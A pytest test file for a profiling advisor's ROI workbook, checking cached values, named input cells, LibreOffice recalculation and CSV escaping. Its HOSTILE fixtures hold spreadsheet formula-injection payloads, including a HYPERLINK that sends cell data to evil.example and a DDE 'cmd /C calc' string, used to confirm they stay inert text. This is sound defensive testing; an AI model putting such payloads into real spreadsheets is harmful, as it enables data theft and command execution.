"""The ROI workbook: cached values are advisor's numbers, inputs are named cells, profile text stays text,
and (with LibreOffice) a recalculated copy with changed assumptions agrees with the cost model re-run on
the same assumptions."""

from __future__ import annotations

import csv
import dataclasses
import io
import math
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest

openpyxl = pytest.importorskip("openpyxl")

from advisor.analysis import Analysis, analyze  # noqa: E402
from advisor.costmodel import Advice, advise, load_config  # noqa: E402
from advisor.costmodel.advise import port_plan, recommended_steps  # noqa: E402
from advisor.model import Frame, FrameKey, Outcome, Profile, Split, StackRecord, StepInfo  # noqa: E402
from advisor.render.xlsx import KERNEL_COLUMNS, PLAN_COLUMNS, render_kernels_csv, write_xlsx  # noqa: E402

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
REL = 1e-9

NUMERIC_LOOP = """
def {name}(a, b, n):
    out = [[0.0] * n for _ in range(n)]
    for i in range(n):
        for j in range(n):
            acc = 0.0
            for k in range(n):
                acc += a[i][k] * b[k][j]
            out[i][j] = acc
    return out
"""
STRINGS = """
def {name}(lines):
    out = []
    for line in lines:
        words = line.strip().lower().split()
        out.append(" ".join(w.replace(",", "") for w in words))
    return out
"""
SMALL_NUMPY = """
import numpy as np

def {name}(xs, w):
    total = 0.0
    for x in xs:
        h = np.tanh(np.dot(w, x))
        total += np.sum(h * h)
    return total
"""
VECTORIZED = """
import numpy as np

def {name}(x, w):
    return np.tanh(x @ w).sum()
"""
# Function and file names a spreadsheet would run as formulas if written carelessly.
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")

# (name, split per run in seconds, source, exact calls over the run)
KERNELS = [
    ("matmul", Split(interpreted=30.0, native=1.0), NUMERIC_LOOP, 100),
    ("tokens", Split(interpreted=15.0, native=0.5), STRINGS, 2000),
    ("mlp", Split(interpreted=6.0, native=4.0), SMALL_NUMPY, 10_000),
    ("dense", Split(interpreted=0.5, native=12.0), VECTORIZED, 10),
    (HOSTILE[0], Split(interpreted=2.0), NUMERIC_LOOP, 10),
    (HOSTILE[1], Split(interpreted=1.5), STRINGS, 10),
    (HOSTILE[2], Split(interpreted=1.0), NUMERIC_LOOP, 10),
    (HOSTILE[3], Split(interpreted=0.8), STRINGS, 10),
]
STEPS = 10


def make_analysis() -> Analysis:
    """A cprofile-mode profile: four kernels that get port / JIT verdicts and four with hostile names."""
    frames = [Frame(FrameKey("/w/train.py", "main", 1), True), Frame(FrameKey("/w/train.py", "train_step", 10), True)]
    sources = {"/w/train.py": "def main():\n    pass\n"}
    stacks, calls = [], {1: STEPS}
    for n, (name, split, src, ncalls) in enumerate(KERNELS):
        fid = len(frames)
        file = f"/w/k{n}.py" if n < 4 else f"=k{n}.py"
        text = textwrap.dedent(src.format(name=f"k{n}"))
        line = next(i for i, t in enumerate(text.splitlines(), 1) if t.startswith("def "))
        sources[file] = text
        frames.append(Frame(FrameKey(file, name, line), True))
        stacks.append(StackRecord((0, 1, fid), (2, 11, line + 1), "step", split, int(split.total * 1000)))
        calls[fid] = ncalls
    stacks.append(StackRecord((0, 1), (2, 12), "step", Split(waiting=8.0), 8000))
    total = sum(s.split.total for s in stacks)
    env = {"python": "3.11.7", "hostname": "=cmd|' /C calc'!A0"}
    profile = Profile("cprofile", 0.005, {"kind": "script", "target": "train.py", "args": ["@evil", "=1+1"]}, env, "2024-05-01T10:00:00",
                      total + 1.0, Outcome(0, "exit"), tuple(frames), tuple(stacks),
                      StepInfo(1, "auto", "auto", STEPS, 0, (), "exact"), (), calls=calls, sources=sources)
    return analyze(profile)


@pytest.fixture(scope="module")
def analysis() -> Analysis:
    return make_analysis()


@pytest.fixture(scope="module")
def advice(analysis: Analysis) -> Advice:
    return advise(analysis, load_config())


@pytest.fixture(scope="module")
def book(advice: Advice, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "roi.xlsx"
    write_xlsx(advice, path)
    return path


# ---- reading helpers -------------------------------------------------------------------------------------

def _col(key: str, columns=KERNEL_COLUMNS) -> int:
    return 1 + next(i for i, (_, _, k) in enumerate(columns) if k == key)


def _kernel_rows(ws) -> dict[tuple[str, str], int]:
    """(kernel qualname, target key) -> row of the Kernels sheet."""
    return {(ws.cell(r, 1).value, ws.cell(r, _col("target")).value): r for r in range(2, ws.max_row + 1)
            if ws.cell(r, 1).value is not None}


def _cell(wb, name: str):
    """The cell behind a defined name."""
    sheet, coord = next(iter(wb.defined_names[name].destinations))
    return wb[sheet][coord.replace("$", "")]


def _close(got, want) -> bool:
    if want is None or (isinstance(want, float) and math.isinf(want)):
        return got == "never"
    return isinstance(got, (int, float)) and math.isclose(got, want, rel_tol=REL, abs_tol=1e-9)


def check_against(values, advice: Advice) -> list[str]:
    """Every derived Kernels and Port plan figure in a workbook (read with data_only) vs ``advice``."""
    errors = []
    ks = values["Kernels"]
    rows = _kernel_rows(ks)
    assert len(rows) == sum(len(k.estimates) for k in advice.kernels)
    for k in advice.kernels:
        for e in k.estimates:
            r = rows[(k.hotspot.key.qualname, e.target)]
            pb = e.payback_months
            want = {"p": e.share}
            for lvl in ("low", "typical", "high"):
                want |= {f"ks_{lvl}": getattr(e.kernel_speedup, lvl), f"e2e_{lvl}": getattr(e.end_to_end, lvl),
                         f"sav_{lvl}": getattr(e.savings_per_month_usd, lvl),
                         f"eff_{lvl}": getattr(e.effort_weeks, lvl),
                         f"cost_{lvl}": getattr(e.cost_usd, lvl), f"pb_{lvl}": None if pb is None else getattr(pb, lvl)}
            for key, w in want.items():
                got = ks.cell(r, _col(key)).value
                if not _close(got, w):
                    errors.append(f"Kernels {k.hotspot.key.qualname}/{e.target} {key}: {got!r} != {w!r}")
    plan = values["Port plan"]
    for n, step in enumerate(advice.plan, start=2):
        want = {"e2e_low": step.end_to_end.low, "e2e_typical": step.end_to_end.typical,
                "e2e_high": step.end_to_end.high, "cum_cost": step.cost_usd, "cum_sav": step.savings_per_month_usd,
                "payback": step.payback_months, "pays": 1 if step.pays_back else 0}
        assert plan.cell(n, _col("kernel", PLAN_COLUMNS)).value == step.kernel
        for key, w in want.items():
            got = plan.cell(n, _col(key, PLAN_COLUMNS)).value
            if not _close(got, w):
                errors.append(f"Port plan step {n - 1} {key}: {got!r} != {w!r}")
    return errors


# ---- the file as written ---------------------------------------------------------------------------------

def test_sheets_and_cached_values_equal_advice(book: Path, advice: Advice) -> None:
    wb = openpyxl.load_workbook(book, data_only=True)
    assert wb.sheetnames == ["Summary", "Assumptions", "Kernels", "Port plan", "Profile"]
    assert len(advice.plan) >= 2, "the fixture should exercise a cumulative plan"
    assert check_against(wb, advice) == []
    # Summary total = the last plan step that pays back.
    summary = wb["Summary"]
    total_row = next(r for r in range(1, summary.max_row + 1)
                     if str(summary.cell(r, 1).value).startswith("Plan total"))
    last = [s for s in advice.plan if s.pays_back][-1]
    assert recommended_steps(advice.plan)[-1] == last
    assert _total_under(summary, total_row) == _total_want(last)
    assert _close(_cell(wb, "monthly_bill").value, advice.monthly_bill_usd)


def _total_under(summary, total_row: int) -> dict[str, float]:
    """The Plan total row's figures keyed by the Summary header above each (the total sits under it)."""
    head_row = next(r for r in range(1, total_row) if summary.cell(r, 1).value == "Kernel")
    out = {}
    for c in range(2, summary.max_column + 1):
        value = summary.cell(total_row, c).value
        if isinstance(value, (int, float)):
            out[summary.cell(head_row, c).value] = round(float(value), 6)
    return out


def _total_want(last) -> dict[str, float]:
    return {"End-to-end speedup (typical)": round(last.end_to_end.typical, 6),
            "$ saved / month (typical)": round(last.savings_per_month_usd, 6),
            "Migration cost (typical)": round(last.cost_usd, 6), "Payback (typical)": round(last.payback_months, 6)}


def test_derived_columns_are_formulas_and_measured_ones_values(book: Path) -> None:
    ks = openpyxl.load_workbook(book)["Kernels"]
    for key in ("new_typical", "ks_low", "e2e_typical", "sav_high", "eff_typical", "cost_typical", "pb_typical",
                "S_typical", "o_high"):
        assert all(ks.cell(r, _col(key)).data_type == "f" for r in range(2, ks.max_row + 1)), key
    for key in ("i", "n", "w", "g", "calls", "lines", "cc"):
        assert all(isinstance(ks.cell(r, _col(key)).value, (int, float)) for r in range(2, ks.max_row + 1)), key


def test_every_input_is_a_named_cell_with_its_value_and_source(book: Path, advice: Advice) -> None:
    wb = openpyxl.load_workbook(book)
    cfg = advice.config
    expect = {"nodes": cfg.cluster.nodes, "price_per_node_hour": cfg.cluster.price_per_node_hour,
              "hours_per_month": cfg.cluster.hours_per_month,
              "engineer_cost_per_week": cfg.team.engineer_cost_per_week,
              "horizon_months": cfg.team.horizon_months, "min_share": cfg.thresholds.min_share,
              "weeks_per_100_loc_high": cfg.team.weeks_per_100_loc.high,
              "complexity_weight": cfg.team.complexity_weight}
    for key, t in cfg.targets.items():
        stem = key.replace("-", "_")
        expect[f"overhead_ns_{stem}_low"] = t.overhead_ns.low
        expect[f"effort_multiplier_{stem}"] = t.effort_multiplier
        for cat, rng in t.speedup.items():
            expect[f"speedup_{stem}_{cat.replace('-', '_')}_typical"] = rng.typical
    for name, value in expect.items():
        assert _cell(wb, name).value == pytest.approx(value), name
    # Managers' inputs sit at the top of Summary; the Assumptions sheet lists every one with a source.
    assert wb.defined_names["price_per_node_hour"].attr_text.startswith("Summary!")
    listed = {str(c.value) for c in wb["Assumptions"]["F"]}
    assert "speedup_rust_numeric_loop_low / _typical / _high" in listed
    rust_row = next(r for r in range(2, wb["Assumptions"].max_row + 1)
                    if str(wb["Assumptions"].cell(r, 6).value).startswith("speedup_rust_numeric_loop_low"))
    assert "S7" in wb["Assumptions"].cell(rust_row, 7).value  # the PRIORS.md citation
    assert _cell(wb, "price_per_node_hour").fill.fgColor.rgb.endswith("FFF2CC")  # input style


def test_profile_text_starting_with_formula_characters_stays_text(book: Path) -> None:
    wb = openpyxl.load_workbook(book)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if isinstance(v, str) and (v in HOSTILE or v.startswith(("=k", "=cmd", "'=", "'+", "'-", "'@"))):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} {v!r} is {cell.data_type}"
                    seen.add(v)
    assert set(HOSTILE) <= seen
    assert "=cmd|' /C calc'!A0" in seen  # the environment value on Profile
    assert any(v.startswith("=k4.py:") for v in seen)  # a file name in Kernels' File:line
    prof = wb["Profile"]
    command = next(prof.cell(r, 2) for r in range(1, prof.max_row + 1) if prof.cell(r, 1).value == "Command")
    assert command.value == "train.py @evil =1+1" and command.data_type == "s"  # the command line, not a dict


def test_csv_escapes_formula_prefixes_and_keeps_numbers(advice: Advice) -> None:
    rows = list(csv.reader(io.StringIO(render_kernels_csv(advice))))
    heads, body = rows[0], rows[1:]
    assert heads == [h for h, _, _ in KERNEL_COLUMNS]
    assert len(body) == sum(len(k.estimates) for k in advice.kernels)
    kernels = {r[0] for r in body}
    for name in HOSTILE:
        assert "'" + name in kernels and name not in kernels
    assert all(not cell.startswith(("=", "+", "@")) for r in body for cell in r)
    e2e = heads.index("End-to-end speedup (typical)")
    best = advice.kernels[0].estimates[0]
    row = next(r for r in body if r[0] == advice.kernels[0].hotspot.key.qualname and r[4] == best.target)
    assert float(row[e2e]) == pytest.approx(best.end_to_end.typical, rel=1e-12)


# ---- recalculated by LibreOffice ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def recalc(tmp_path_factory: pytest.TempPathFactory):
    """Recalculate xlsx files with LibreOffice headless; returns {name: path of the recalculated copy}."""
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    base = tmp_path_factory.mktemp("lo")
    profile = base / "profile"
    (profile / "user").mkdir(parents=True)
    # Recalculate OOXML files on load (LibreOffice's default keeps the cached values).
    (profile / "user" / "registrymodifications.xcu").write_text(textwrap.dedent("""\
        <?xml version="1.0" encoding="UTF-8"?>
        <oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
                   xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
        <item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
        </oor:items>
        """))

    def run(files: list[Path]) -> dict[str, Path]:
        out = base / f"out{len(list(base.iterdir()))}"
        subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "xlsx",
                        "--outdir", str(out), *map(str, files)], check=True, capture_output=True, timeout=300)
        return {f.name: out / f.name for f in files}

    return run


@pytest.mark.libreoffice
def test_libreoffice_recalculation_reproduces_advisor_numbers(book: Path, advice: Advice, recalc) -> None:
    """Recalculating the unchanged file gives the cached numbers back (the formulas restate the model)."""
    got = openpyxl.load_workbook(recalc([book])[book.name], data_only=True)
    assert check_against(got, advice) == []
    summary = got["Summary"]
    total_row = next(r for r in range(1, summary.max_row + 1)
                     if str(summary.cell(r, 1).value).startswith("Plan total"))
    assert _total_under(summary, total_row) == _total_want(recommended_steps(advice.plan)[-1])


def _target_speedup(cfg, target: str, category: str, typical: float):
    t = cfg.targets[target]
    rng = t.speedup[category]
    speed = {**t.speedup, category: dataclasses.replace(rng, typical=typical)}
    return dataclasses.replace(cfg, targets={**cfg.targets, target: dataclasses.replace(t, speedup=speed)})


# name -> (defined name to change, new value, the same change made to the CostConfig)
CHANGES = {
    "price": ("price_per_node_hour", 2.10,
              lambda c: dataclasses.replace(c, cluster=dataclasses.replace(c.cluster, price_per_node_hour=2.10))),
    "nodes": ("nodes", 64, lambda c: dataclasses.replace(c, cluster=dataclasses.replace(c.cluster, nodes=64))),
    "engineer": ("engineer_cost_per_week", 9000.0,
                 lambda c: dataclasses.replace(c, team=dataclasses.replace(c.team, engineer_cost_per_week=9000.0))),
    "speedup": ("speedup_cython_mixed_typical", 3.0, lambda c: _target_speedup(c, "cython", "mixed", 3.0)),
    "bill": ("monthly_bill_given", 50_000.0,
             lambda c: dataclasses.replace(c, cluster=dataclasses.replace(c.cluster, monthly_bill_usd=50_000.0))),
}


def repriced(original: Advice, rerun: Advice) -> Advice:
    """``rerun``'s estimates with ``original``'s verdicts and plan, the plan priced by the cost model's own
    ``port_plan``: the workbook re-prices advisor's decisions, it does not re-decide them (a changed price
    can turn a "leave" into a "port"; the spreadsheet says so only after ``advisor report --config``)."""
    kernels = []
    for old, new in zip(original.kernels, rerun.kernels, strict=True):
        assert old.hotspot.key == new.hotspot.key
        ests = {e.target: e for e in new.estimates}
        best = ests[old.best.target] if old.best is not None else None
        kernels.append(dataclasses.replace(new, verdict=old.verdict, best=best))
    plan = port_plan(kernels, rerun.config)
    assert [(s.kernel, s.target) for s in plan] == [(s.kernel, s.target) for s in original.plan]
    return dataclasses.replace(rerun, kernels=tuple(kernels), plan=plan)


@pytest.mark.libreoffice
def test_changed_assumptions_recalculate_like_the_cost_model(book: Path, analysis: Analysis, advice: Advice,
                                                              recalc, tmp_path: Path) -> None:
    files = {}
    for label, (name, value, _) in CHANGES.items():
        wb = openpyxl.load_workbook(book)
        _cell(wb, name).value = value
        files[label] = tmp_path / f"{label}.xlsx"
        wb.save(files[label])
    results = recalc(list(files.values()))
    before = openpyxl.load_workbook(book, data_only=True)["Kernels"]
    for label, (_, _, change) in CHANGES.items():
        expected = repriced(advice, advise(analysis, change(advice.config)))
        got = openpyxl.load_workbook(results[f"{label}.xlsx"], data_only=True)
        assert check_against(got, expected) == [], label
        # ... and the change did move the numbers (the engine really recalculated).
        r = 2
        assert got["Kernels"].cell(r, _col("pb_typical")).value != before.cell(r, _col("pb_typical")).value, label
        assert _close(_cell(got, "monthly_bill").value, expected.monthly_bill_usd), label


@pytest.mark.libreoffice
def test_cumulative_plan_uses_amdahl_over_the_ported_shares(book: Path, advice: Advice, recalc,
                                                             tmp_path: Path) -> None:
    """Independent oracle: with every speedup of the plan's targets made huge, each kernel's new share
    tends to its unchanged part, and the cumulative speedup to 1 / (1 - sum of interpreted shares + ...)."""
    wb = openpyxl.load_workbook(book)
    for s in advice.plan:
        k = next(k for k in advice.kernels if k.hotspot.key.qualname == s.kernel)
        stem = f"speedup_{s.target.replace('-', '_')}_{k.category.name.replace('-', '_')}"
        for lvl in ("low", "typical", "high"):
            _cell(wb, f"{stem}_{lvl}").value = 1e12
    path = tmp_path / "huge.xlsx"
    wb.save(path)
    got = openpyxl.load_workbook(recalc([path])["huge.xlsx"], data_only=True)["Port plan"]
    step_s = advice.analysis.step_s
    mean_s = advice.analysis.stats.mean_s
    removed = 0.0
    for n, s in enumerate(advice.plan, start=2):
        k = next(k for k in advice.kernels if k.hotspot.key.qualname == s.kernel)
        e = next(e for e in k.estimates if e.target == s.target)
        boundary = e.calls_per_step * advice.config.targets[s.target].overhead_ns.typical * 1e-9 / mean_s
        removed += k.hotspot.self_split.interpreted / step_s - boundary
        assert got.cell(n, _col("e2e_typical", PLAN_COLUMNS)).value == pytest.approx(1 / (1 - removed), rel=1e-6)


@pytest.mark.libreoffice
def test_dispatch_bound_rows_recalculate_like_the_cost_model(analysis: Analysis, recalc, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A dispatch-bound kernel (tiny NumPy calls): batching targets divide its native share too."""
    import importlib

    advise_mod = importlib.import_module("advisor.costmodel.advise")  # the module, not the re-exported function

    real = advise_mod.classify

    def classify(h, profile):
        cat = real(h, profile)
        if h.key.qualname != "mlp":
            return cat
        return dataclasses.replace(cat, name="small-numpy-calls", dispatch_bound=True)

    def vectorize_gain(a: Advice) -> float:
        k = next(k for k in a.kernels if k.hotspot.key.qualname == "mlp")
        return next(e.end_to_end.typical for e in k.estimates if e.target == "numpy-vectorize")

    before = advise(analysis, load_config())
    monkeypatch.setattr(advise_mod, "classify", classify)
    adv = advise(analysis, load_config())
    assert vectorize_gain(adv) > vectorize_gain(before)  # the native share now shrinks too
    mlp = next(k for k in adv.kernels if k.hotspot.key.qualname == "mlp")
    assert mlp.category.name == "small-numpy-calls" and mlp.category.dispatch_bound
    path = tmp_path / "dispatch.xlsx"
    write_xlsx(adv, path)
    got = openpyxl.load_workbook(recalc([path])[path.name], data_only=True)
    assert check_against(got, adv) == []
